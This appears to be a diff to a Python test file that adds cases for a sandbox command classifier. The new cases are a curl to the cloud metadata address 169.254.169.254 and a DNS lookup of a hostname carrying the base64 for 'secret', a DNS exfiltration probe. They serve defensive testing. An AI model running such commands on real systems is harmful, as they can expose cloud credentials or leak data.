@@ -109,6 +109,8 @@ async def test_a_base_that_has_only_a_name_keeps_it(victim, sandboxes):
     ("command", "kinds"),
     [
         ("timeout 5 curl -sS https://pypi.example/simple/victim/", {"network", "release_download"}),
+        ("timeout 5 curl -sS http://169.254.169.254/latest/meta-data/", {"network"}),
+        ("python -c \"import socket; socket.getaddrinfo('c2VjcmV0.example.org', 53)\"", set()),
         (
             "timeout 20 python -m pip download --no-deps --timeout 2 --retries 0 victim==2.0",
             {"network", "release_download"},
